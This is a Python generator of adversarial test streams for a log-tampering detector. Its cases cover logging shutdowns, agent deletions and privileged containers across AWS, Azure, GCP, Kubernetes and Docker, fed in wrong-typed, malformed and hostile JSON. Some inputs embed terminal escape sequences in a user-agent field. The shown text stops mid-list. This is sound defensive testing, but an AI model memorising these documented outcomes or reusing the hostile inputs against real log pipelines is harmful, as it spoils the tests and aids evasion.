#!/usr/bin/env python3
"""Writes the adversarial streams of this folder and their `*.expected.json` files.

    python3 testdata/adversarial/make_cases.py

Every case states its documented outcome here, next to the input that produces it; the expected files are
derived from those statements (never from a run), and `blindspot replay testdata --expect testdata` checks
them. The events the wrong-type cases start from are positive events of the recorded streams next door
(file and line named in each case's note), so field names and nesting are exactly what the services write.
The large cases (10k-level nesting at every depth, a 50 MB event, 1M-element arrays, the 64 MiB limit)
are generated at test time by `host-harness/tests/integration/adversarial.rs` instead of being committed.
"""

import base64
import copy
import json
import os
import re
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
TESTDATA = os.path.dirname(HERE)


def compact(value):
    return json.dumps(value, separators=(",", ":"), ensure_ascii=False)


def line_of(path, line):
    with open(os.path.join(TESTDATA, path), encoding="utf-8") as f:
        return json.loads(f.read().split("\n")[line - 1])


def element_of(path, index):
    with open(os.path.join(TESTDATA, path), encoding="utf-8") as f:
        doc = json.load(f)
    return doc[index] if isinstance(doc, list) else doc["records"][index]


# The principals of the recorded events. Each line gets its own (`mallory` becomes `mallory.env12`), so
# the cases stay independent: correlation joins one principal's moves across events and streams, and these
# lines are not one attacker's session (nor part of the recorded streams' sessions).
PRINCIPAL_TOKENS = ["mallory", "dev-sync-4821"]
# Event ids of the recorded events: correlation findings name their events by id, so each line's ids are
# made its own too (filled by `collect_ids` before any stream is built).
ID_TOKENS = set()
ID_KEYS = {"eventID", "requestID", "eventDataId", "correlationId", "operationId", "insertId", "auditID", "id",
           "Id", "ID", "uid"}


def collect_ids(value):
    if isinstance(value, dict):
        for key, inner in value.items():
            if key in ID_KEYS and isinstance(inner, str) and len(inner) >= 8:
                ID_TOKENS.add(inner)
            elif key == "log" and isinstance(inner, str) and inner.startswith("{"):
                collect_ids(json.loads(inner))
            else:
                collect_ids(inner)
    elif isinstance(value, list):
        for inner in value:
            collect_ids(inner)


# Event time moves a year back (2026-11 → 2025-11, epoch 1795… → 1763…): correlation reads event time as
# a clock, and these streams are replayed before the recorded ones, so they must not move it forward.
DATES = re.compile(r"2026-11-(\d\d)")
EPOCHS = re.compile(r"(?<![0-9A-Za-z])1795(?=[0-9]{6})")


def shift_time(text):
    return EPOCHS.sub("1763", DATES.sub(r"2025-11-\1", text))


def isolate(text, tag):
    if isinstance(text, bytes):
        for token in PRINCIPAL_TOKENS + sorted(ID_TOKENS, key=len, reverse=True):
            text = text.replace(token.encode(), f"{token}.{tag}".encode())
        return shift_time(text.decode("utf-8", "surrogateescape")).encode("utf-8", "surrogateescape")
    if '"subscription"' in text and len(text) < 200_000:
        # Pub/Sub push: the principal is inside the base64 LogEntry.
        try:
            doc = json.loads(text)
            data = doc["message"]["data"]
            urlsafe = "-" in data or "_" in data
            if urlsafe:
                inner = base64.urlsafe_b64decode(data.encode()).decode("utf-8")
            else:
                inner = base64.b64decode(data.encode(), validate=True).decode("utf-8")
            inner = isolate(inner, tag)
            encode = base64.urlsafe_b64encode if urlsafe else base64.b64encode
            doc["message"]["data"] = encode(inner.encode()).decode("ascii")
            text = compact(doc)
        except (ValueError, KeyError, TypeError, AttributeError):
            pass
    for token in PRINCIPAL_TOKENS + sorted(ID_TOKENS, key=len, reverse=True):
        text = text.replace(token, f"{token}.{tag}")
    return shift_time(text)


class Stream:
    """One NDJSON stream: lines (str or bytes) and what each must produce."""

    def __init__(self, name):
        self.name = name
        self.lines = []
        self.events = []
        self.errors = []
        self.notes = {}

    def tag(self):
        return "".join(w[0] for w in self.name.split(".")[0].split("_")) + str(len(self.lines) + 1)

    def event(self, text, rules, note, extra_events=()):
        """A line whose events are `[(index, rules, note)]`; `extra_events` for envelopes."""
        self.lines.append(isolate(text, self.tag()))
        n = len(self.lines)
        self.notes[n] = (note or (extra_events[0][2] if extra_events else ""), "row")
        if rules is not None:
            self.events.append({"line": n, "rules": list(rules), "note": note})
        for index, more_rules, more_note in extra_events:
            self.events.append({"line": n, "index": index, "rules": list(more_rules), "note": more_note})

    def error(self, text, note):
        self.lines.append(isolate(text, self.tag()))
        self.errors.append({"line": len(self.lines), "note": note})
        self.notes[len(self.lines)] = (note, "error")

    def skipped(self, text, note):
        self.lines.append(text)
        self.notes[len(self.lines)] = (note, "skipped")

    def table(self):
        """Markdown rows: line, documented outcome, case."""
        rows = []
        by_line = {}
        for e in self.events:
            by_line.setdefault(e["line"], []).append(e)
        for n in range(1, len(self.lines) + 1):
            note, kind = self.notes.get(n, ("", "row"))
            if kind == "error":
                outcome = "error row"
            elif kind == "skipped":
                outcome = "skipped (no row, no error)"
            elif n not in by_line:
                outcome = "no row (an envelope with no events)"
            else:
                parts = []
                for e in sorted(by_line[n], key=lambda e: e.get("index", 0)):
                    rules = ", ".join(f"`{r}`" for r in e["rules"]) or "no finding"
                    numbered = len(by_line[n]) > 1 or "index" in e
                    parts.append((f"#{e.get('index', 0)}: " if numbered else "") + rules)
                outcome = "normal row: " + "; ".join(parts)
            rows.append(f"| {n} | {outcome} | {note.replace('|', '/')} |")
        return "\n".join(rows)

    def write(self):
        data = b""
        for text in self.lines:
            data += (text if isinstance(text, bytes) else text.encode("utf-8")) + b"\n"
        assert len(data) < 1_000_000, f"{self.name} is {len(data)} bytes"
        with open(os.path.join(HERE, self.name), "wb") as f:
            f.write(data)
        expected = {"stream": self.name, "events": self.events, "errors": self.errors}
        stem = self.name.rsplit(".", 1)[0]
        with open(os.path.join(HERE, stem + ".expected.json"), "w", encoding="utf-8") as f:
            f.write("{\n")
            f.write(f'  "stream": {json.dumps(self.name)},\n')
            f.write('  "events": [\n')
            f.write(",\n".join("    " + json.dumps(e, ensure_ascii=False) for e in self.events))
            f.write("\n  ],\n")
            f.write('  "errors": [\n')
            f.write(",\n".join("    " + json.dumps(e, ensure_ascii=False) for e in self.errors))
            f.write("\n  ]\n}\n")
        return len(self.lines), len(data)


# ---------------------------------------------------------------------------------------------------
# Wrong types at every path the parsers read (plugin/src/sources/*.rs). A field of the wrong type reads
# as absent: the event stays a normal row of its source and loses that detail. It loses its finding only
# when the field is one the rule needs to recognise the action (listed as `needed` per base).

SCALARS = [12345, -1.5e300, True, None, 0]
CONTAINERS = [["x", 1], {"nested": {"x": 1}}]


def wrong_values(current, k):
    """Two wrong-typed replacements for a value: a scalar and a container (or a string for a container)."""
    scalar = SCALARS[k % len(SCALARS)]
    if isinstance(current, bool) and isinstance(scalar, bool):
        scalar = 7
    if isinstance(current, (dict, list)):
        container = "not-an-" + ("object" if isinstance(current, dict) else "array")
        if isinstance(current, dict):
            return [scalar, ["not", "an", "object"], container]
        return [scalar, {"not": "an array"}, container]
    container = CONTAINERS[k % len(CONTAINERS)]
    return [scalar, container]


def set_path(event, path, value):
    parts = path.split(".")
    node = event
    for part in parts[:-1]:
        key = int(part) if isinstance(node, list) else part
        if isinstance(node, dict) and key not in node:
            node[key] = {}
        node = node[key]
    last = parts[-1]
    if isinstance(node, list):
        node[int(last)] = value
    else:
        node[last] = value


def get_path(event, path):
    node = event
    for part in path.split("."):
        if isinstance(node, list):
            node = node[int(part)]
        elif isinstance(node, dict) and part in node:
            node = node[part]
        else:
            return None
    return node


def wrong_type_stream(name, bases):
    """`bases`: (label, origin, event, rules, paths, needed) where `needed` maps a path to why a wrong type
    there removes the finding. Every path gets a scalar and a container of the wrong type."""
    stream = Stream(name)
    for label, origin, base, rules, paths, needed, *together in bases:
        stream.event(compact(base), rules, f"{label}: the unchanged base event ({origin})")
        everything = copy.deepcopy(base)
        for k, path in enumerate(paths):
            current = get_path(base, path)
            for value in wrong_values(current, k):
                event = copy.deepcopy(base)
                set_path(event, path, value)
                kind = type(value).__name__.replace("NoneType", "null").replace("dict", "object")
                kind = kind.replace("list", "array").replace("str", "string").replace("float", "number")
                kind = kind.replace("int", "number").replace("bool", "boolean")
                if path in needed:
                    # A note, or (note, the rules that fire on what is left instead).
                    note, left = needed[path] if isinstance(needed[path], tuple) else (needed[path], [])
                    stream.event(compact(event), left, f"{label}: {path} as {kind}: {note}")
                elif rules:
                    stream.event(
                        compact(event), rules, f"{label}: {path} as {kind} reads as absent; the rule still fires"
                    )
                else:
                    stream.event(compact(event), [], f"{label}: {path} as {kind} reads as absent; a normal row")
            # The all-at-once case: every path wrong, parents first so children land in fresh objects.
        for k, path in enumerate(sorted(paths, key=lambda p: -p.count("."))):
            try:
                set_path(everything, path, wrong_values(get_path(everything, path), k)[0])
            except (KeyError, TypeError, IndexError, ValueError):
                pass
        if together:
            stream.event(compact(everything), [], f"{label}: every path of the wrong type at once: {together[0]}")
        elif any(p in needed for p in paths):
            stream.event(
                compact(everything),
                [],
                f"{label}: every path of the wrong type at once: a normal row of its source with no finding",
            )
        else:
            stream.event(
                compact(everything),
                rules,
                f"{label}: every listed path of the wrong type at once: a normal row"
                + ("; the rule still fires without them" if rules else ""),
            )
    return stream


def wrong_types():
    ct = line_of("aws/cloudtrail_audit_logging.ndjson", 18)
    ct_paths = [
        "eventSource", "eventName", "eventTime", "eventID", "eventType", "awsRegion", "sourceIPAddress",
        "userAgent", "errorCode", "errorMessage", "readOnly", "recipientAccountId", "userIdentity",
        "userIdentity.type", "userIdentity.arn", "userIdentity.accountId", "userIdentity.invokedBy",
        "userIdentity.sessionContext", "userIdentity.sessionContext.sessionIssuer",
        "userIdentity.sessionContext.sessionIssuer.arn", "userIdentity.sessionContext.sessionIssuer.userName",
        "userIdentity.sessionContext.attributes", "userIdentity.sessionContext.attributes.mfaAuthenticated",
        "requestParameters", "requestParameters.name", "resources", "responseElements",
    ]
    ct_needed = {
        "eventSource": "the rule dispatches on the service in eventSource",
        "eventName": "the rule dispatches on eventName",
    }
    ct_flow = line_of("aws/cloudtrail_audit_logging.ndjson", 23)
    ct_flow_paths = [
        "requestParameters.DeleteFlowLogsRequest", "requestParameters.DeleteFlowLogsRequest.FlowLogId",
    ]
    streams = [
        wrong_type_stream(
            "wrong_types_cloudtrail.ndjson",
            [
                ("CloudTrail StopLogging (failed attempt)", "aws/cloudtrail_audit_logging.ndjson line 18", ct,
                 ["aws.cloudtrail.stop_logging"], ct_paths, ct_needed),
                ("CloudTrail DeleteFlowLogs", "aws/cloudtrail_audit_logging.ndjson line 23", ct_flow,
                 ["aws.ec2.flow_logs_deleted"], ct_flow_paths, {}),
            ],
        )
    ]

    rest = line_of("azure/activity_rest.ndjson", 2)
    export = element_of("azure/activity_export.json", 1)
    upn = "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn"
    rest_paths = [
        "operationName", "operationName.value", "status", "status.value", "subStatus", "subStatus.value",
        "eventTimestamp", "eventDataId", "correlationId", "resourceId", "subscriptionId", "caller",
        "httpRequest", "httpRequest.clientIpAddress", "claims", "claims.appid", "claims.name", "properties",
        "properties.statusCode", "properties.statusMessage", "properties.requestbody",
    ]
    export_paths = [
        "operationName", "resultType", "resultSignature", "time", "resourceId", "location", "callerIpAddress",
        "identity", "identity.claims", "identity.claims.name", "identity.claims.appid", "properties",
    ]
    azure_needed = {
        "operationName": "the rules dispatch on operationName",
        "operationName.value": "the rules dispatch on operationName",
    }
    streams.append(
        wrong_type_stream(
            "wrong_types_azure.ndjson",
            [
                ("Azure REST diagnostic setting delete", "azure/activity_rest.ndjson line 2", rest,
                 ["azure.monitor.diagnostic_setting_deleted"], rest_paths, azure_needed),
                ("Azure export record", "azure/activity_export.json record 1", export,
                 ["azure.monitor.diagnostic_setting_deleted"], export_paths + [f"identity.claims.{upn}"],
                 azure_needed),
            ],
        )
    )

    gcp = line_of("gcp/audit_logentries.ndjson", 5)
    gcp_paths = [
        "timestamp", "insertId", "logName", "resource", "resource.type", "resource.labels",
        "resource.labels.project_id", "resource.labels.location", "protoPayload", "protoPayload.serviceName",
        "protoPayload.methodName", "protoPayload.resourceName", "protoPayload.authenticationInfo",
        "protoPayload.authenticationInfo.principalEmail", "protoPayload.authenticationInfo.principalSubject",
        "protoPayload.requestMetadata", "protoPayload.requestMetadata.callerIp",
        "protoPayload.requestMetadata.callerSuppliedUserAgent", "protoPayload.status",
        "protoPayload.status.code", "protoPayload.status.message", "protoPayload.request",
        "protoPayload.request.sinkName", "protoPayload.response", "protoPayload.serviceData",
        "protoPayload.metadata",
    ]
    gcp_needed = {
        "protoPayload": "the rules dispatch on protoPayload.methodName",
        "protoPayload.methodName": "the rules dispatch on methodName",
    }
    streams.append(
        wrong_type_stream(
            "wrong_types_gcp.ndjson",
            [("GCP DeleteSink", "gcp/audit_logentries.ndjson line 5", gcp, ["gcp.logging.sink_deleted"],
              gcp_paths, gcp_needed)],
        )
    )

    k8s = line_of("k8s/k8s_audit_agents.ndjson", 2)
    k8s_paths = [
        "auditID", "stage", "verb", "user", "user.username", "impersonatedUser", "impersonatedUser.username",
        "sourceIPs", "sourceIPs.0", "userAgent", "objectRef", "objectRef.resource", "objectRef.subresource",
        "objectRef.namespace", "objectRef.name", "objectRef.apiGroup", "responseStatus",
        "responseStatus.code", "responseStatus.message", "responseStatus.reason", "requestObject",
        "responseObject", "stageTimestamp", "requestReceivedTimestamp", "annotations",
    ]
    k8s_needed = {
        "verb": "the rules dispatch on the verb",
        "objectRef": "the workload's resource, namespace and name identify the agent",
        "objectRef.resource": "the rule needs the resource kind (daemonsets)",
    }
    gke = line_of("k8s/gke_audit.ndjson", 1)
    gke_paths = [
        "insertId", "timestamp", "resource.labels", "resource.labels.cluster_name", "resource.labels.location",
        "operation", "operation.id", "protoPayload.resourceName", "protoPayload.status",
        "protoPayload.status.code", "protoPayload.status.message", "protoPayload.authenticationInfo",
        "protoPayload.authenticationInfo.principalEmail", "protoPayload.requestMetadata",
        "protoPayload.requestMetadata.callerIp", "protoPayload.requestMetadata.callerSuppliedUserAgent",
        "protoPayload.request", "protoPayload.response",
    ]
    gke_needed = {
        "protoPayload.resourceName": "the workload's kind, namespace and name come from resourceName",
    }
    streams.append(
        wrong_type_stream(
            "wrong_types_k8s.ndjson",
            [
                ("Kubernetes audit DaemonSet delete", "k8s/k8s_audit_agents.ndjson line 2", k8s,
                 ["k8s.agent.workload_deleted"], k8s_paths, k8s_needed),
                ("GKE audit DaemonSet delete", "k8s/gke_audit.ndjson line 1", gke,
                 ["k8s.agent.workload_deleted"], gke_paths, gke_needed),
            ],
        )
    )

    stop = line_of("docker/docker_events.ndjson", 4)
    stop_paths = [
        "Type", "Action", "Actor", "Actor.ID", "Actor.Attributes", "Actor.Attributes.name",
        "Actor.Attributes.image", "Actor.Attributes.signal", "status", "id", "from", "time", "timeNano",
    ]
    stop_needed = {
    }
    network = line_of("docker/docker_events.ndjson", 9)
    network_paths = ["Actor.Attributes.container", "Actor.Attributes.name", "Actor.Attributes.type"]
    network_needed = {"Actor.Attributes.name": "the monitoring network is recognised by its name"}
    quiet = element_of("docker/docker_inspect.json", 1)
    shell = element_of("docker/docker_inspect.json", 2)
    inspect_paths = [
        "Id", "Name", "Created", "Config", "Config.Image", "Config.Labels", "HostConfig",
        "HostConfig.LogConfig", "HostConfig.LogConfig.Type", "HostConfig.RestartPolicy",
        "HostConfig.RestartPolicy.Name", "State", "State.Status", "State.StartedAt",
    ]
    shell_paths = ["HostConfig.Privileged", "HostConfig.PidMode", "HostConfig.Binds", "HostConfig.SecurityOpt"]
    streams.append(
        wrong_type_stream(
            "wrong_types_docker.ndjson",
            [
                ("Docker agent container stop", "docker/docker_events.ndjson line 4", stop,
                 ["docker.agent.stopped"], stop_paths, stop_needed,
                 "the action is unreadable once both Action and status are wrong: a normal row, no finding"),
                ("Docker monitoring network disconnect", "docker/docker_events.ndjson line 9", network,
                 ["docker.agent.network_disconnected"], network_paths, network_needed),
                ("docker inspect, logging driver none", "docker/docker_inspect.json element 1", quiet,
                 ["docker.container.log_driver_none"], inspect_paths,
                 {"HostConfig": "the logging driver is read from HostConfig.LogConfig.Type",
                  "HostConfig.LogConfig": "the logging driver is read from HostConfig.LogConfig.Type",
                  "HostConfig.LogConfig.Type": "the logging driver is read from HostConfig.LogConfig.Type"}),
                ("docker inspect, host access", "docker/docker_inspect.json element 2", shell,
                 ["docker.container.host_access"], shell_paths,
                 {"HostConfig.Privileged": ("this container's host access is privileged mode together with the "
                                            "host PID namespace; without privileged mode what is left is the "
                                            "host PID namespace alone",
                                            ["docker.container.host_namespaces"]),
                  "HostConfig.PidMode": ("this container's host access is privileged mode together with the "
                                         "host PID namespace; without the host PID namespace what is left is "
                                         "privileged mode alone",
                                         ["docker.container.privileged"])}),
            ],
        )
    )
    return streams


def b64(text):
    return base64.b64encode(text.encode("utf-8") if isinstance(text, str) else text).decode("ascii")


def pubsub(inner_text, data=None):
    """A Pub/Sub push delivery of one LogEntry, as the push subscription posts it."""
    return {
        "message": {
            "attributes": {"logging.googleapis.com/timestamp": "2026-11-27T11:04:02.391847562Z"},
            "data": b64(inner_text) if data is None else data,
            "messageId": "9876543210123456",
            "message_id": "9876543210123456",
            "publishTime": "2026-11-27T11:04:03.114Z",
            "publish_time": "2026-11-27T11:04:03.114Z",
        },
        "subscription": "projects/acme-prod-4821/subscriptions/siem-push",
    }


def cloudwatch(log_events, log_group="/aws/cloudtrail/org-trail", message_type="DATA_MESSAGE"):
    """A CloudWatch Logs subscription delivery (as Firehose/Lambda see it after gunzip)."""
    return {
        "messageType": message_type,
        "owner": "111122223333",
        "logGroup": log_group,
        "logStream": "111122223333_CloudTrail_us-east-1",
        "subscriptionFilters": ["cloudtrail-to-siem"],
        "logEvents": log_events,
    }


def log_event(message, n=1):
    return {"id": f"3795170000000000000000000000000000000000000000000{n:04d}", "timestamp": 1795767304000,
            "message": message}


def bases():
    ct = line_of("aws/cloudtrail_audit_logging.ndjson", 18)
    ct_ok = copy.deepcopy(ct)
    del ct_ok["errorCode"], ct_ok["errorMessage"]
    return {
        "ct": ct,
        "ct_ok": ct_ok,
        "azure": element_of("azure/activity_export.json", 1),
        "azure_rest": line_of("azure/activity_rest.ndjson", 2),
        "gcp": line_of("gcp/audit_logentries.ndjson", 5),
        "k8s": line_of("k8s/k8s_audit_agents.ndjson", 2),
        "k8s_hiding": line_of("k8s/k8s_audit_hiding.ndjson", 2),
        "gke": line_of("k8s/gke_audit.ndjson", 1),
        "aks": element_of("k8s/aks_diagnostics.json", 1),
        "docker": line_of("docker/docker_events.ndjson", 4),
        "inspect": element_of("docker/docker_inspect.json", 1),
    }


def envelope_garbage():
    b = bases()
    ct, ct_text = b["ct"], compact(b["ct"])
    stop = ["aws.cloudtrail.stop_logging"]
    k8s_text = compact(b["k8s"])
    gcp_text = compact(b["gcp"])
    s = Stream("envelope_garbage.ndjson")
    unknown = "a normal row of source unknown, no finding"
    # S3 delivery files (`Records`).
    s.event(compact({"Records": 42}), [], f"S3 Records as a number: not an envelope; {unknown}")
    s.event(compact({"Records": ct_text}), [], f"S3 Records as a string holding the record: {unknown}")
    s.event(compact({"Records": ct}), [], f"S3 Records as an object instead of a list: {unknown}")
    s.event(compact({"Records": []}), None, "S3 Records empty: an envelope with no events gives no row and no error")
    s.event(
        compact({"Records": [1, "x", None, True, [], ct]}),
        [],
        "S3 Records with non-objects: each becomes a row of source unknown (index 0-4), the record still fires",
        [(i, [], "a non-object record: a text row, unknown") for i in range(1, 5)]
        + [(5, stop, "the real record after the garbage")],
    )
    s.event(
        compact({"Records": [{"Records": [{"Records": [ct]}]}]}),
        None,
        "",
        [(0, stop, "Records three levels deep: unwrapped (the depth bound is 3)")],
    )
    s.event(
        compact({"Records": [{"Records": [{"Records": [{"Records": [ct]}]}]}]}),
        [],
        "Records four levels deep: the fourth level is past the depth bound and is read as an event: unknown",
    )
    s.error(ct_text.join(['{"Records":[', ","]), "S3 Records cut off mid-file: truncated JSON, an error row")
    # EventBridge.
    eb = {"version": "0", "id": "6a7e8feb-b491-4cf7-a9f1-bf3703467718", "detail-type": "AWS API Call via CloudTrail",
          "source": "aws.cloudtrail", "account": "111122223333", "time": "2026-11-27T08:13:51Z",
          "region": "us-east-1", "resources": [], "detail": ct}
    for label, detail in [("a string", ct_text), ("a number", 42), ("a list", [ct]), ("null", None)]:
        e = dict(eb, detail=detail)
        s.event(compact(e), [], f"EventBridge detail as {label}: not unwrapped; {unknown}")
    s.event(compact(dict(eb, detail={})), [], f"EventBridge detail empty object: unwrapped to an empty event; {unknown}")
    s.event(compact(dict(eb, **{"detail-type": 42})), [], f"EventBridge detail-type as a number: {unknown}")
    s.event(compact(dict(eb, **{"detail-type": "EC2 Instance State-change Notification"})), [],
            f"EventBridge event that is not a CloudTrail call: its detail is not a record; {unknown}")
    s.event(compact(eb), stop, "EventBridge control: the well-formed envelope fires")
    # CloudWatch Logs subscriptions.
    s.event(compact(cloudwatch(42)), [], f"CloudWatch logEvents as a number: {unknown}")
    s.event(compact(dict(cloudwatch([log_event(ct_text)]), messageType=42)), [],
            f"CloudWatch messageType as a number: {unknown}")
    s.event(compact(cloudwatch([log_event(ct_text)], message_type="CONTROL_MESSAGE")), None,
            "CloudWatch CONTROL_MESSAGE carrying a record: control messages yield no events, no row, no error")
    garbage_events = [42, "x", {"message": 5}, {"message": "{not json"}, {"message": "plain text line"},
                      {}, log_event(ct_text)]
    s.event(
        compact(cloudwatch(garbage_events)),
        [],
        "CloudWatch logEvents with non-objects, a numeric message, a broken JSON message, plain text and no "
        "message: each becomes a text row of source unknown (index 0-5); the record at index 6 fires",
        [(i, [], "a log event with no readable JSON message: a text row") for i in range(1, 6)]
        + [(6, stop, "the real record after the garbage")],
    )
    for group, note in [(42, "a number"), ("/aws/eks//cluster", "an EKS path with no cluster name"),
                        (["/aws/eks/prod/cluster"], "a list")]:
        s.event(compact(cloudwatch([log_event(k8s_text)], log_group=group)), ["k8s.agent.workload_deleted"],
                f"EKS delivery with logGroup as {note}: no cluster is taken from it; the event still fires")
    bad_k8s = dict(b["k8s"], verb=["delete"], objectRef="daemonsets/falco")
    s.event(compact(cloudwatch([log_event(compact(bad_k8s))], log_group="/aws/eks/prod-eks/cluster")), [],
            "EKS delivery whose audit event has verb and objectRef of the wrong type: a k8s_audit row, no finding")
    # Azure Monitor exports (`records`) and AKS diagnostics.
    s.event(compact({"records": "x"}), [], f"Azure records as a string: {unknown}")
    s.event(
        compact({"records": [1, b["azure"]]}),
        [],
        "Azure records with a number first: a text row at index 0, the record at index 1 fires",
        [(1, ["azure.monitor.diagnostic_setting_deleted"], "the real record")],
    )
    aks = b["aks"]
    for label, log in [("a number", 42), ("broken JSON", "{not json"), ("an empty string", ""),
                       ("a JSON array string", "[" + aks["properties"]["log"] + "]"),
                       ("an object instead of a string", json.loads(aks["properties"]["log"]))]:
        record = copy.deepcopy(aks)
        record["properties"]["log"] = log
        s.event(compact({"records": [record]}), [],
                f"AKS kube-audit record with properties.log as {label}: the record itself is the event; {unknown}")
    record = copy.deepcopy(aks)
    record["properties"] = "log"
    s.event(compact({"records": [record]}), [], f"AKS kube-audit record with properties as a string: {unknown}")
    record = copy.deepcopy(aks)
    inner = json.loads(record["properties"]["log"])
    inner["objectRef"] = 7
    record["properties"]["log"] = compact(inner)
    s.event(compact({"records": [record]}), [],
            "AKS kube-audit record whose audit event has objectRef as a number: a k8s_audit row, no finding")
    s.event(compact({"records": [aks]}), ["k8s.agent.workload_deleted"], "AKS control: the well-formed record fires")
    # Pub/Sub push.
    sink_deleted = ["gcp.logging.sink_deleted"]
    s.event(compact(pubsub("", data="!!not base64!!")), [], "Pub/Sub data that is not base64: a text row, unknown")
    s.event(compact(pubsub("", data=b64(b"\xff\xfe{\"x\":1}"))), [],
            "Pub/Sub data that decodes to invalid UTF-8: kept as the base64 text, a text row, unknown")
    s.event(compact(pubsub("{not json")), [], "Pub/Sub data that decodes to broken JSON: a text row, unknown")
    s.event(compact(pubsub("[" + gcp_text + "]")), [], "Pub/Sub data that decodes to a JSON array: a text row")
    s.event(compact(pubsub("")), [], "Pub/Sub data empty: an empty text row, unknown")
    wrapped = b64(gcp_text)
    s.event(compact(pubsub("", data=wrapped[:40] + "\n" + wrapped[40:])), [],
            "Pub/Sub data with a newline inside the base64: not decodable, a text row, unknown")
    s.event(compact(pubsub("", data=base64.urlsafe_b64encode(gcp_text.encode()).decode())), sink_deleted,
            "Pub/Sub data in URL-safe base64: decoded, the entry fires")
    for label, data in [("a number", 42), ("null", None), ("an object", {"data": wrapped})]:
        e = pubsub(gcp_text)
        e["message"]["data"] = data
        s.event(compact(e), [], f"Pub/Sub message.data as {label}: not a push delivery; {unknown}")
    e = pubsub(gcp_text)
    e["message"] = wrapped
    s.event(compact(e), [], f"Pub/Sub message as a string: {unknown}")
    e = pubsub(gcp_text)
    del e["subscription"]
    s.event(compact(e), [], f"Pub/Sub message without subscription: not a push delivery; {unknown}")
    three = compact(pubsub(compact(pubsub(compact(pubsub(gcp_text))))))
    s.event(compact(pubsub(compact(pubsub(gcp_text)))), sink_deleted, "Pub/Sub inside Pub/Sub: both unwrapped")
    s.event(three, sink_deleted, "Pub/Sub nested three deep: unwrapped (the depth bound is 3)")
    s.event(compact(pubsub(three)), [], "Pub/Sub nested four deep: the fourth is past the depth bound and is read as an event: unknown")
    s.event(compact(pubsub(gcp_text)), sink_deleted, "Pub/Sub control: the well-formed delivery fires")
    # Top-level arrays (a JSON array on one line is a batch of events).
    s.event("[]", None, "an empty array: no events, no row, no error")
    s.error("[1,2]", "an array of numbers: an error row (array element 0 is a number)")
    s.error("[" + ct_text + ",\"x\"]", "an array with a string after a record: refused whole, an error row")
    s.event("[" + ct_text + "," + compact({"Records": [ct]}) + "]", stop,
            "an array of a record and an S3 envelope: both fire (index 0 and 1)",
            [(1, stop, "the record inside the envelope inside the array")])
    return s


def hostile_json():
    b = bases()
    ct, ct_text = b["ct"], compact(b["ct"])
    stop = ["aws.cloudtrail.stop_logging"]
    s = Stream("hostile_json.ndjson")
    deep = 10_000
    # Syntax and encoding.
    s.error(ct_text[: len(ct_text) // 2], "a record cut in half: truncated JSON")
    s.error(ct_text.replace('"userAgent":"aws-cli', '"userAgent":"aws-cli\x1b[31m'),
            "a raw ESC byte inside a string: JSON forbids raw control characters, invalid JSON")
    s.error(ct_text.replace('"userAgent":"aws-cli', '"userAgent":"aws-cli\x00'),
            "a raw NUL byte inside a string: invalid JSON")
    s.error(ct_text.replace('"userAgent":"aws-cli', '"userAgent":"aws-cli\t'),
            "a raw tab inside a string: invalid JSON")
    raw = ct_text.encode()
    s.error(raw.replace(b'"userAgent":"aws-cli', b'"userAgent":"aws-cli\xff\xfe'),
            "invalid UTF-8 bytes in the user agent: invalid UTF-8, an error row with the byte offset")
    s.error(raw.replace(b'"userAgent":"aws-cli', b'"userAgent":"aws-cli\xc0\xaf'),
            "an overlong UTF-8 encoding of '/': invalid UTF-8")
    s.error(raw.replace(b'"userAgent":"aws-cli', b'"userAgent":"aws-cli\xed\xa0\x80'),
            "a surrogate encoded as UTF-8 (CESU-8): invalid UTF-8")
    s.error(b"\xef\xbb\xbf" + raw, "a UTF-8 byte-order mark before the record: not JSON, an error row")
    s.error(ct_text.replace('"eventName"', '"event\\ud800Name"'),
            "a lone surrogate escape in a key: invalid JSON (the key cannot be decoded)")
    s.event(ct_text.replace('"userAgent":"aws-cli', '"userAgent":"aws-cli\\ud800'), stop,
            "a lone surrogate escape in the user agent: the value cannot be decoded and reads as absent; fires")
    s.event(ct_text.replace('"eventName":"StopLogging"', '"eventName":"StopLogging\\udfff"'), [],
            "a lone surrogate escape in eventName: eventName reads as absent, a CloudTrail row with no finding")
    s.event(ct_text.replace('"userAgent":"aws-cli', '"userAgent":"aws-cli\\u0000\\u001b[2J\\u007f'), stop,
            "escaped NUL, ESC and DEL in the user agent: valid JSON, a normal row that fires")
    s.event(ct_text.replace('"eventName":"StopLogging"', '"eventName":"\\u0053top\\u004cogging"'), stop,
            "eventName spelled with escapes: decodes to StopLogging and fires")
    s.event(ct_text.replace('"eventName"', '"event\\u004eame"'), stop,
            "the key eventName spelled with an escape: decodes to eventName and fires")
    s.error(ct_text + " trailing", "a record followed by text: invalid JSON (trailing characters)")
    s.error(ct_text + ct_text, "two records on one line: invalid JSON (trailing characters)")
    s.error('{"eventName":"StopLogging",}', "a trailing comma: invalid JSON")
    s.error("{'eventName':'StopLogging'}", "single-quoted keys: invalid JSON")
    s.error('{"eventTime":NaN}', "NaN is not JSON: invalid JSON")
    # Not objects.
    for text, what in [("null", "null"), ("true", "a boolean"), ('"StopLogging"', "a string"), ("42", "a number"),
                       ("1e999", "a number out of range")]:
        s.error(text, f"{what} on its own: valid JSON but not an event object, an error row (unsupported shape)")
    s.skipped("   \t ", "whitespace only: skipped, neither a row nor an error")
    s.skipped("", "an empty line: skipped")
    s.event("{}", [], "an empty object: a normal row of source unknown")
    # Duplicate keys: the last one wins, as in most JSON readers.
    s.event(ct_text.replace('"eventName":"StopLogging"', '"eventName":"StopLogging","eventName":"DescribeTrails"'),
            [], "duplicate eventName, the read-only one last: the last wins, read-only, no finding")
    s.event(ct_text.replace('"eventName":"StopLogging"', '"eventName":"DescribeTrails","eventName":"StopLogging"'),
            stop, "duplicate eventName, StopLogging last: the last wins, fires")
    s.event(ct_text.replace('"requestParameters":{', '"requestParameters":{"name":"decoy",'), stop,
            "duplicate requestParameters.name: the last (the real trail) is the target; fires")
    s.event(ct_text.replace('"readOnly":false', '"readOnly":false,"readOnly":true'), [],
            "duplicate readOnly, true last: read as a read-only call, no finding")
    # Numbers out of range.
    s.event(ct_text.replace('"eventVersion":"1.11"', '"eventVersion":1e999'), stop,
            "a number out of range in a field no parser reads: passes through; fires")
    s.event(ct_text.replace('"readOnly":false', '"readOnly":1e999'), stop,
            "readOnly out of range: reads as absent, the name decides (not read-only); fires")
    docker_text = compact(b["docker"])
    for label, patch in [("time 1e999", {"time": 1e999}),
                         ("time i64::MAX seconds", {"time": 9223372036854775807}),
                         ("timeNano 2^64", {"timeNano": 18446744073709551616}),
